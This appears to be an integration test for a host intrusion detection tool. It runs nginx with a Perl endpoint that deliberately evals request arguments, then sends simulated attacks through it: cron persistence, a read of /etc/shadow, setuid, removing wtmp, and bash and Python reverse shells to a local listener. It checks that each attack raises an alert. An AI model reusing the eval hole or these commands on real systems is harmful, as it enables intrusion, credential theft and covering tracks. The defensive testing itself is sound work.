#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""What a real nginx does in everyday life alerts nothing of any kind; what an attacker does in it and below it is told by
file, destination, listener and reverse shell, in one alert each lineage, with its reasons. A colleague's session is not."""
import signal, socket, threading, urllib.parse, urllib.request

from harness import *

isolate()
need("/usr/sbin/nginx", "bash", "python3", "perl")
PERL_MODULE = "/usr/lib/nginx/modules/ngx_http_perl_module.so"
if not os.path.exists(PERL_MODULE):
    skip_all("nginx has no perl module here (libnginx-mod-http-perl)")

dir = tempfile.mkdtemp(prefix="daemonsec-novelty.")
os.chmod(dir, 0o755)
for place in ("/etc", "/var/log"):
    top = f"/mnt/{place.strip('/').replace('/', '-')}"
    if not os.path.ismount("/mnt"):
        subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "/mnt"], check=True)
    for d in ("up", "work"):
        os.makedirs(f"{top}/{d}")
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                    f"lowerdir={place},upperdir={top}/up,workdir={top}/work", place], check=True)
os.makedirs("/etc/cron.d", exist_ok=True)


def conf(extra=""):
    with open(f"{dir}/nginx.conf", "w") as f:
        f.write(f"""load_module {PERL_MODULE};
user root; worker_processes 1; pid {dir}/nginx.pid; error_log {dir}/error.log;
events {{}}
http {{ access_log {dir}/access.log; server {{ listen 127.0.0.1:8080; root {dir};
  location = /ok {{ return 200 ok; }}
  location = /in {{ perl 'sub {{ my $r = shift; my $c = $r->unescape($r->args); eval $c; $r->send_http_header("text/plain");
    $r->print("done"); return OK; }}'; }} }}
{extra} }}
""")


def ask(path, port=8080):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=10) as r:
        return r.read()


def inside(perl):
    ask("/in?" + urllib.parse.quote(perl))


def nginx_pid():
    with open(f"{dir}/nginx.pid") as f:
        return int(f.read())


def answers(port):
    try:
        return ask("/ok", port)
    except OSError:
        return False


def told(site, *kinds):
    return [a for a in site.alerts() if a["kind"] not in ("agent_silent", "blind") and a["status"] == "open"
            and (not kinds or a["kind"] in kinds)]


def ready(site):
    ask("/ok")
    return [d for d in site.get("daemons")["items"] if d["name"] == "nginx" and d.get("state") == "ready"]


def everyday(site):
    """A reload with a new site on another port, a log rotation under a new name, an edited configuration."""
    conf(f"server {{ listen 127.0.0.1:8081; access_log {dir}/new-site.log; location = /ok {{ return 200 ok; }} }}")
    os.kill(nginx_pid(), signal.SIGHUP)
    ok(wait(lambda: answers(8081)), "a new site is served on a new port")
    for n in (2, 1):
        if os.path.exists(f"{dir}/access.log.{n - 1}" if n > 1 else f"{dir}/access.log"):
            os.rename(f"{dir}/access.log.{n - 1}" if n > 1 else f"{dir}/access.log", f"{dir}/access.log.{n}")
    os.kill(nginx_pid(), signal.SIGUSR1)
    ok(wait(lambda: os.path.exists(f"{dir}/access.log")), "its log was rotated")
    # What the worker does itself, in places like any other.
    inside("mkdir '/var/cache/nginx-x'; open(F,'>/var/cache/nginx-x/a'); close F; open(F,'>/tmp/nginx-upload'); close F")


def found(site, kind, attack, title=None):
    before = {a["id"]: a["count"] for a in told(site)}
    begun = time.monotonic()
    attack()

    def new():
        return [a for a in told(site, kind) if a["count"] > before.get(a["id"], 0)
                and (title is None or title in a["title"])]
    alert = wait(new, 10, 0.01)
    if alert:
        say(f"{(time.monotonic() - begun) * 1000:.0f} ms: {alert[0]['severity']}: {alert[0]['reason']}")
    else:
        for a in told(site):
            say(f"instead: {a['kind']} {a['title']}")
    return alert[0] if alert else None


def listener():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen()
    return s


conf()
subprocess.run(["/usr/sbin/nginx", "-c", f"{dir}/nginx.conf"], check=True)
with Site({"detect.learning_min": "2s"}) as site:
    agent = site.agent(monitor="nginx")
    ok(wait(lambda: ready(site), 90, 0.2), "nginx is learnt")
    everyday(site)
    ok(wait(lambda: site.events('service.name:nginx and file.path:"/var/cache/nginx-x/a"'), 40), "all of it has arrived")
    if not ok(not told(site), "everyday life alerts nothing"):
        for a in told(site):
            say(f"{a['kind']}: {a['title']}: {a['reason']}")

    a = found(site, "new_file", lambda: inside("open(F,'>/etc/cron.d/update'); print F '#'; close F"), "/etc/cron.d")
    ok(a and a["severity"] == "high" and a["threat"][0]["id"] == "T1053.003" and a["record"]["clears"],
       "a scheduled job that nginx itself writes is told")
    a = found(site, "new_file", lambda: inside("open(F,'</etc/shadow'); my $x=<F>; close F"), "shadow")
    ok(a and a["threat"][0]["id"] == "T1003.008", "a read of the passwords is told")
    a = found(site, "new_file", lambda: inside("chmod 04755, '/tmp/nginx-upload'"), "upload")
    ok(a and a["threat"][0]["id"] == "T1548.001", "setuid is told")
    a = found(site, "new_file", lambda: inside("unlink '/var/log/wtmp'"), "wtmp")
    ok(a and a["threat"][0]["id"] == "T1070.002", "a log that is removed is told")
    a = found(site, "new_child", lambda: inside("system('/bin/sh -c id >/dev/null')"))
    ok(a and a["severity"] in ("high", "critical"), "a shell is told")

    with listener() as s:
        port = s.getsockname()[1]
        a = found(site, "new_child", lambda: inside(
            f"system(q[bash -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; echo hi >&5; sleep 0.2'])"), None)
        ok(a, "a shell that connects is told")
        wait(lambda: any(e.get("destination.port") == port for e in (site.get(f"alerts/{a['id']}") if a else {})
             .get("events", [])), 10)
        a = site.get(f"alerts/{a['id']}") if a else {}
        ok(any(e.get("destination.port") == port for e in a.get("events", [])), "in the alert of its lineage")
    with listener() as s:
        port = s.getsockname()[1]
        a = found(site, "new_child", lambda: inside(
            f"system(q[python3 -c 'import socket,subprocess; s=socket.create_connection((\"127.0.0.1\",{port})); "
            f"subprocess.call([\"/bin/sh\",\"-c\",\"true\"],stdin=s)'])"))
        ok(a and wait(lambda: site.get(f"alerts/{a['id']}")["severity"] == "critical", 10),
           "a shell that obeys a connection is critical")
    ok(all(x["explanation"] and x["reason"] and x["title"] for x in told(site)), "every alert is explained")
    ok(len(told(site)) <= 12, f"alerts of a whole attack are few: {len(told(site))}")
    # What people say: previewed, expected at a scope, undone; a deployment.
    def ctl(*args):
        return subprocess.run([program("daemonsec-ctl"), "--server", f"unix:{site.socket}", *args], text=True,
                              capture_output=True)

    def cron():
        inside("open(F,'>/etc/cron.d/update'); print F '#'; close F")

    job = [a for a in told(site, "new_file") if "cron.d" in a["title"]][0]
    r = ctl("alerts", "verdict", job["id"], "benign_expected", "--scope", "daemon", "--preview")
    ok(r.returncode == 0 and "would have hidden 1 " in r.stdout, "a preview says what it would have hidden") or say(r.stdout + r.stderr)
    ok(site.get(f"alerts/{job['id']}")["status"] == "open", "and changes nothing")
    r = ctl("alerts", "verdict", job["id"], "benign_expected", "--scope", "daemon", "--expires", "30d")
    ok(r.returncode == 0 and site.get(f"alerts/{job['id']}")["status"] == "closed", "a verdict closes it") or say(r.stderr)
    exp = site.get("expectations")["items"]
    ok(exp and exp[0]["scope"] == "daemon" and exp[0]["status"] == "holds" and "/etc/cron.d/update" in exp[0]["behaviour"],
       "it is an expectation with a scope and an end")
    ok(wait(lambda: site.get("status")["detection"]["expected"] >= 1, 60), "that workers know of")
    before = len(site.events('file.path:"/etc/cron.d/update"'))
    cron()
    ok(wait(lambda: len(site.events('file.path:"/etc/cron.d/update"')) > before, 40), "the same happens again")
    ok(not [a for a in told(site, "new_file") if "cron.d" in a["title"]], "what is expected is not told")
    r = ctl("expectations", "undo", exp[0]["id"])
    ok(r.returncode == 0 and site.get("expectations")["items"][0]["status"] == "undone", "it is undone") or say(r.stderr)

    def again():
        cron()
        return [a for a in told(site, "new_file") if "cron.d" in a["title"]]
    ok(wait(again, 60, 0.5), "and told again")

    r = ctl("rules", "import", os.path.join(os.path.dirname(os.path.abspath(__file__)), "rules_sigma.yml"))
    ok(r.returncode == 0 and "1 rules imported" in r.stdout, "a Sigma rule is imported") or say(r.stdout + r.stderr)
    ok(any(x["id"] == "test-marker" for x in site.get("rules")["items"]), "and listed")

    def marked():
        inside("system('/bin/true', 'sigma-marker', 'quiet'); system('/bin/true', 'sigma-marker', $$ . time)")
        return [a for a in told(site) if "test-marker" in json.dumps(a)]
    a = wait(marked, 30, 0.5)
    ok(a, "an event that fits it is told by its name") or say(str([x["title"] for x in told(site)]))
    ok(ctl("rules", "remove", "test-marker").returncode == 0, "and removed")
    ok(ctl("rules", "remove", "test-marker").returncode == 3, "which cannot be done twice")

    r = ctl("deploy", "begin", "--daemon", "nginx", "--ttl", "10m")
    ok(r.returncode == 0 and r.stdout.startswith("dpl_"), "a deployment is declared") or say(r.stderr)
    wait(lambda: site.get("deployments")["items"])
    a = found(site, "new_file", lambda: inside("open(F,'>/etc/cron.d/other'); close F"), "/etc/cron.d")
    ok(a, "what is grave is told in spite of it")
    r = ctl("deploy", "end", site.get("deployments")["items"][0]["id"])
    ok(r.returncode == 0 and site.get("deployments")["items"][0]["status"] == "ended", "and ended") or say(r.stderr)
os.kill(nginx_pid(), signal.SIGTERM)
shutil.rmtree(dir, ignore_errors=True)
done()
